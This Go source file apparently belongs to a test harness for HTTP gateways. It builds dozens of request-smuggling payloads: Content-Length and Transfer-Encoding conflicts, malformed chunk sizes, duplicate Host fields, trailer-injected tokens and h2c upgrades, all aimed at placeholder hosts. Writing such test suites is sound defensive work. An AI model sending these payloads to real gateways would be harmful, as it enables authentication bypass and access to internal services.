package smuggling

import (
	"fmt"
	"strings"
)

const (
	site     = "site.example"     // what the gateway serves
	internal = "internal.example" // what it does not
	// smuggled is what the attacker wants a server behind the gateway to see: it has
	// no token.
	smuggled = "GET /api/smuggled HTTP/1.1\r\nHost: " + site + "\r\n\r\n"
)

// target is what the attacker has access to.
type target struct {
	name, path, contentType string
	token                   bool // it takes one
	body                    string
}

func (t *target) authorization(token string) string {
	if !t.token {
		return ""
	}
	return "Authorization: Bearer " + token + "\r\n"
}

const verifier = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"

func targets() []target {
	return []target{
		{name: "require_token, then reverse_proxy", path: "/api/upload", contentType: "text/plain", token: true, body: "an upload"},
		{
			name: "/oauth/token", path: "/oauth/token", contentType: "application/x-www-form-urlencoded",
			body: "grant_type=authorization_code&client_id=app&redirect_uri=http%3A%2F%2F127.0.0.1%2Fcb&code=c&code_verifier=" + verifier,
		},
		{
			name: "segmentation", path: "/machine_learning/text/technical_language/parsers/segmentation", contentType: "application/json",
			body: `{"value":"Please look at main.go"}`,
		},
	}
}

// permitted reports a request that a server behind the gateway may see. The identity
// provider's host is its own.
func permitted(r request, token, idp string) bool {
	if r.host != site && (r.host != idp || r.target != "/oauth/token") || strings.Contains(r.body, tunnel) {
		return false
	}
	target := r.target
	if escaped, _, ok := strings.Cut(target, "%"); ok {
		target = escaped // one target, which the gateway has escaped
	}
	switch target {
	case "/api/upload", "/api/last", "/api/victim":
		return r.authorization == "Bearer "+token
	case "/oauth/token":
		return strings.Contains(r.body, "code_verifier="+verifier)
	}
	return r.target == targets()[2].path
}

// attack is one way to have two servers read different requests.
type attack struct {
	name string
	// bytes are what the attacker sends over HTTP/1.1.
	bytes func(t *target, token string) string
	// fields are what he sends over HTTP/2, with a body; nil for HTTP/1.1.
	fields func(t *target, token string) framedRequest
	// http3: they are sent over HTTP/3.
	http3 bool
	// onlyAPI: it means something behind require_token only.
	onlyAPI bool
	// malformed: no server reads a request in it that it may not see; it is only
	// one that must not be passed on as it is.
	malformed bool
}

// head is the beginning of a request, without the empty line.
func head(t *target, token, method, fields string) string {
	return fmt.Sprintf("%s %s HTTP/1.1\r\nHost: %s\r\nContent-Type: %s\r\n%sX-Id: attack\r\n%s", method, t.path, site, t.contentType, t.authorization(token), fields)
}

func chunk(data string) string { return fmt.Sprintf("%x\r\n%s\r\n", len(data), data) }

// attackGroups are all of them, by group.
func attackGroups() []attackGroup {
	return []attackGroup{
		{"chunks and a length", chunksAndLength()},
		{"lengths", lengths()},
		{"chunks", chunks()},
		{"request lines and hosts", lines()},
		{"what comes with a body", bodies()},
		{"HTTP/2 to HTTP/1.1", overHTTP2()},
		{"HTTP/3 to HTTP/1.1", overHTTP3()},
	}
}

// attackGroup is attacks of one kind.
type attackGroup struct {
	title   string
	attacks []attack
}

// chunksAndLength are requests with both: a server that goes by the length sees one
// request, one that goes by the chunks sees a second one in its body.
func chunksAndLength() []attack {
	encodings := []struct{ name, field string }{
		{"both", "Transfer-Encoding: chunked\r\n"},
		{"a space before the colon", "Transfer-Encoding : chunked\r\n"},
		{"a tab before the value", "Transfer-Encoding:\tchunked\r\n"},
		{"a vertical tab before the value", "Transfer-Encoding: \x0bchunked\r\n"},
		{"a form feed after the value", "Transfer-Encoding: chunked\x0c\r\n"},
		{"chunked, identity", "Transfer-Encoding: chunked, identity\r\n"},
		{"identity, chunked", "Transfer-Encoding: identity, chunked\r\n"},
		{"gzip, chunked", "Transfer-Encoding: gzip, chunked\r\n"},
		{"chunked, chunked", "Transfer-Encoding: chunked, chunked\r\n"},
		{"a field of each: chunked, identity", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"},
		{"a field of each: identity, chunked", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n"},
		{"two fields", "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n"},
		{"capitals", "tRANSFER-eNCODING: CHUNKED\r\n"},
		{"a parameter", "Transfer-Encoding: chunked;q=1\r\n"},
		{"quotation marks", "Transfer-Encoding: \"chunked\"\r\n"},
		{"xchunked", "Transfer-Encoding: xchunked\r\n"},
		{"a folded value", "Transfer-Encoding:\r\n chunked\r\n"},
		{"a folded field", "X-Folded: a\r\n Transfer-Encoding: chunked\r\n"},
		{"a field after a line feed", "X-Lines: a\nTransfer-Encoding: chunked\r\n"},
		{"a field after a carriage return", "X-Lines: a\rTransfer-Encoding: chunked\r\n"},
		{"a NUL in the name", "Transfer-Encoding\x00: chunked\r\n"},
		{"a NUL in the value", "Transfer-Encoding: chunked\x00\r\n"},
	}
	var attacks []attack
	for _, e := range encodings {
		attacks = append(attacks, attack{name: e.name, bytes: func(t *target, token string) string {
			body := chunk(t.body) + "0\r\n\r\n" + smuggled
			return head(t, token, "POST", fmt.Sprintf("Content-Length: %d\r\n%s", len(body), e.field)) + "\r\n" + body
		}})
	}
	return append(attacks,
		attack{name: "both, the chunk holds the second request", bytes: func(t *target, token string) string {
			data := t.body + smuggled
			size := fmt.Sprintf("%x\r\n", len(data))
			// Who goes by the length ends the body in the middle of the chunk.
			return head(t, token, "POST", fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n", len(size)+len(t.body))) + "\r\n" + size + data + "\r\n0\r\n\r\n"
		}},
		attack{name: "both, in HTTP/1.0", bytes: func(t *target, token string) string {
			body := chunk(t.body) + "0\r\n\r\n" + smuggled
			return strings.Replace(head(t, token, "POST", fmt.Sprintf("Connection: keep-alive\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n", len(body))), "HTTP/1.1", "HTTP/1.0", 1) + "\r\n" + body
		}},
	)
}

// lengths are requests whose length two servers read differently: for one of them
// the body is empty, and what it begins with is the next request.
func lengths() []attack {
	fields := []struct{ name, field string }{
		{"two, the first is 0", "Content-Length: 0\r\nContent-Length: %d\r\n"},
		{"two, the last is 0", "Content-Length: %d\r\nContent-Length: 0\r\n"},
		{"a list", "Content-Length: 0, %d\r\n"},
		{"a plus sign", "Content-Length: +%d\r\n"},
		{"hexadecimal", "Content-Length: %#x\r\n"},
		{"negative, and a second one", "Content-Length: -1\r\nContent-Length: %d\r\n"},
		{"an exponent", "Content-Length: %de0\r\n"},
		{"a fraction", "Content-Length: %d.0\r\n"},
		{"a NUL after it", "Content-Length: %d\x00\r\n"},
		{"a vertical tab before it", "Content-Length: \x0b%d\r\n"},
		{"a space before the colon", "Content-Length : %d\r\n"},
		{"a folded field", "X-Folded: a\r\n Content-Length: %d\r\n"},
		{"a field after a line feed", "X-Lines: a\nContent-Length: %d\r\n"},
		{"a field after a carriage return", "X-Lines: a\rContent-Length: %d\r\n"},
		{"a NUL in the name", "Content-Length\x00: %d\r\n"},
	}
	var attacks []attack
	for _, f := range fields {
		attacks = append(attacks, attack{name: f.name, bytes: func(t *target, token string) string {
			body := smuggled + t.body
			return head(t, token, "POST", fmt.Sprintf(f.field, len(body))) + "\r\n" + body
		}})
	}
	return append(attacks, attack{name: "more than 64 bits", bytes: func(t *target, token string) string {
		body := smuggled + t.body
		// 2^64 and the length of the body: the first five digits are those of 2^64, the sum stays below 2^64 + 10^4.
		return head(t, token, "POST", fmt.Sprintf("Content-Length: 1844674407370955%d\r\n", 1616+len(body))) + "\r\n" + body
	}})
}

// chunks are bodies whose chunks two servers cut differently.
func chunks() []attack {
	chunked := func(t *target, token, body string) string {
		return head(t, token, "POST", "Transfer-Encoding: chunked\r\n") + "\r\n" + body
	}
	var attacks []attack
	for _, size := range []struct{ name, format string }{
		{"a size with 0x", "%#x"},
		{"a size with a plus sign", "+%x"},
		{"a size with a space before it", " %x"},
		{"a size beyond 32 bits", "1%08x"},
		{"a size beyond 64 bits", "1%016x"},
		{"a size with a tab and more after it", "%x\t5"},
		{"a size with a letter after it", "%xg"},
	} {
		attacks = append(attacks, attack{name: size.name, bytes: func(t *target, token string) string {
			data := "\r\n" + smuggled + t.body
			return chunked(t, token, fmt.Sprintf(size.format, len(data))+"\r\n"+data+"\r\n0\r\n\r\n")
		}})
	}
	return append(attacks,
		attack{name: "a size that ends with a line feed", bytes: func(t *target, token string) string {
			data := "\r\n\r\n" + smuggled + t.body
			return chunked(t, token, fmt.Sprintf("%x\n", len(data))+data+"\r\n0\r\n\r\n")
		}},
		attack{name: "an extension that holds a line feed", bytes: func(t *target, token string) string {
			// Who ends the line there is four bytes behind, and takes the last of the
			// first chunk for a size, and so the second one for chunks.
			first, second := t.body+"\r\n02", "0\r\n\r\n"+smuggled
			return chunked(t, token, fmt.Sprintf("%x;\nxx\r\n%s\r\n", len(first), first)+chunk(second)+"0\r\n\r\n")
		}},
		attack{name: "data that ends with a line feed", bytes: func(t *target, token string) string {
			hidden := "\r\n" + smuggled
			hidden += strings.Repeat("x", 0x50-len(hidden))
			return chunked(t, token, fmt.Sprintf("%x\r\n%s\n50\r\n%s\r\n0\r\n\r\n", len(t.body), t.body, hidden))
		}},
	)
}

// lines are requests whose first lines two servers read differently.
func lines() []attack {
	request := func(t *target, token, line, hosts string) string {
		return fmt.Sprintf("%s\r\n%sContent-Type: %s\r\n%sX-Id: attack\r\nContent-Length: %d\r\n\r\n%s", line, hosts, t.contentType, t.authorization(token), len(t.body), t.body)
	}
	of := func(line, hosts string) func(*target, string) string {
		return func(t *target, token string) string {
			return request(t, token, strings.ReplaceAll(line, "{path}", t.path), hosts)
		}
	}
	const own, other = "Host: " + site + "\r\n", "Host: " + internal + "\r\n"
	after := func(second string) func(*target, string) string {
		return func(t *target, token string) string {
			return request(t, token, "POST "+t.path+" HTTP/1.1", own) + second
		}
	}
	return []attack{
		{name: "an absolute target for another host", bytes: of("POST http://"+internal+"{path} HTTP/1.1", own)},
		{name: "two Host fields", bytes: of("POST {path} HTTP/1.1", own+other)},
		{name: "two Host fields, the other way round", bytes: of("POST {path} HTTP/1.1", other+own)},
		{name: "a Host with a space before the colon", bytes: of("POST {path} HTTP/1.1", "Host : "+internal+"\r\n"+own)},
		{name: "two targets", bytes: of("POST {path} /api/smuggled HTTP/1.1", own)},
		{name: "two targets, the other way round", bytes: of("POST /api/smuggled {path} HTTP/1.1", own)},
		{name: "no Host", malformed: true, bytes: of("POST {path} HTTP/1.1", "")},
		{name: "an empty Host", malformed: true, bytes: of("POST {path} HTTP/1.1", "Host:\r\n")},
		{name: "a Host with a path", malformed: true, bytes: of("POST {path} HTTP/1.1", "Host: "+site+"/api/smuggled?\r\n")},
		{name: "a Host with user information", malformed: true, bytes: of("POST {path} HTTP/1.1", "Host: "+site+"@"+internal+"\r\n")},
		{name: "a Host with a space", malformed: true, bytes: of("POST {path} HTTP/1.1", "Host: "+site+" "+internal+"\r\n")},
		{name: "an authority for a target", malformed: true, bytes: of("POST "+internal+":80 HTTP/1.1", own)},
		{name: "CONNECT", malformed: true, bytes: of("CONNECT "+internal+":80 HTTP/1.1", own)},
		{name: "CONNECT with a path", malformed: true, bytes: of("CONNECT {path} HTTP/1.1", own)},
		{name: "an asterisk for a target", malformed: true, bytes: of("POST * HTTP/1.1", own)},
		{name: "a tab in the request line", malformed: true, bytes: of("POST\t{path} HTTP/1.1", own)},
		{name: "a space before the request line", malformed: true, bytes: of(" POST {path} HTTP/1.1", own)},
		{name: "a NUL in the target", malformed: true, bytes: of("POST {path}\x00 HTTP/1.1", own)},
		{name: "a line feed in the target", malformed: true, bytes: of("POST {path}\n/api/smuggled HTTP/1.1", own)},
		{name: "a fragment in the target", malformed: true, bytes: of("POST {path}#/../smuggled HTTP/1.1", own)},
		{name: "a version of its own", malformed: true, bytes: of("POST {path} HTTP/1.9", own)},
		{name: "a version in small letters", malformed: true, bytes: of("POST {path} http/1.1", own)},
		{name: "lines that end with LF", malformed: true, bytes: func(t *target, token string) string {
			return strings.ReplaceAll(request(t, token, "POST "+t.path+" HTTP/1.1", own), "\r\n", "\n")
		}},
		{name: "lines that end with CR", malformed: true, bytes: func(t *target, token string) string {
			return strings.ReplaceAll(request(t, token, "POST "+t.path+" HTTP/1.1", own), "\r\n", "\r")
		}},
		{name: "a field without a colon", malformed: true, bytes: of("POST {path} HTTP/1.1", own+"Transfer-Encoding\r\n")},
		{name: "a field whose name has a space", malformed: true, bytes: of("POST {path} HTTP/1.1", own+"Transfer Encoding: chunked\r\n")},
		{name: "HTTP/0.9 on the same connection", malformed: true, bytes: after("GET /api/smuggled\r\n\r\n")},
		{name: "HTTP/1.0 on the same connection", malformed: true, bytes: after("GET /api/smuggled HTTP/1.0\r\nConnection: keep-alive\r\n\r\n")},
		{name: "a second request without a token", malformed: true, bytes: after(smuggled)},
		{name: "the preface of HTTP/2", malformed: true, bytes: after("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")},
	}
}

// bodies are requests whose body, or what stands beside it, is not what it seems.
func bodies() []attack {
	withBody := func(method, fields string) func(*target, string) string {
		return func(t *target, token string) string {
			body := smuggled + t.body
			return head(t, token, method, fmt.Sprintf("%sContent-Length: %d\r\n", fields, len(body))) + "\r\n" + body
		}
	}
	upgrade := func(protocol, fields string) func(*target, string) string {
		return func(t *target, token string) string {
			return head(t, token, "GET", "Connection: Upgrade"+fields+"\r\nUpgrade: "+protocol+"\r\n") + "\r\n"
		}
	}
	trailer := func(announced string) func(*target, string) string {
		return func(t *target, token string) string {
			anonymous := *t
			anonymous.token = false
			return head(&anonymous, token, "POST", announced+"Transfer-Encoding: chunked\r\n") + "\r\n" + chunk(t.body) + "0\r\nAuthorization: Bearer " + token + "\r\n\r\n"
		}
	}
	const settings = ", HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"
	return []attack{
		{name: "a GET with a body", bytes: withBody("GET", "")},
		{name: "a body that waits for nobody (Expect)", bytes: withBody("POST", "Expect: 100-continue\r\n")},
		{name: "an Expect of its own", malformed: true, bytes: withBody("POST", "Expect: 200-maybe\r\n")},
		{name: "a HEAD with a body", malformed: true, bytes: withBody("HEAD", "")},
		{name: "a token in the trailer", onlyAPI: true, bytes: trailer("")},
		{name: "a token in the trailer, announced", onlyAPI: true, bytes: trailer("Trailer: Authorization\r\n")},
		{name: "another user in the trailer, announced", malformed: true, onlyAPI: true, bytes: func(t *target, token string) string {
			return head(t, token, "POST", "Trailer: X-User\r\nTransfer-Encoding: chunked\r\n") + "\r\n" + chunk(t.body) + "0\r\nX-User: admin\r\n\r\n"
		}},
		{name: "a Connection that names other fields", malformed: true, bytes: func(t *target, token string) string {
			return head(t, token, "POST", fmt.Sprintf("Connection: Content-Length, Authorization, Host, X-User\r\nContent-Length: %d\r\n", len(t.body))) + "\r\n" + t.body
		}},
		{name: "an upgrade to HTTP/2", onlyAPI: true, bytes: upgrade("h2c", settings)},
		{name: "an upgrade to HTTP/2, in capitals and second", onlyAPI: true, bytes: upgrade("foo, H2C", settings)},
		{name: "an upgrade to HTTP/2, in two fields", onlyAPI: true, bytes: upgrade("foo\r\nUpgrade: h2c", settings)},
		{name: "an upgrade to TLS (RFC 2817)", onlyAPI: true, bytes: upgrade("TLS/1.0", "")},
		{name: "an upgrade to HTTP/1.1", onlyAPI: true, bytes: upgrade("HTTP/1.1", "")},
	}
}

// tunnel is what a dialect notes of a request after which the connection carries
// what nobody judges.
const tunnel = "(and a tunnel)"
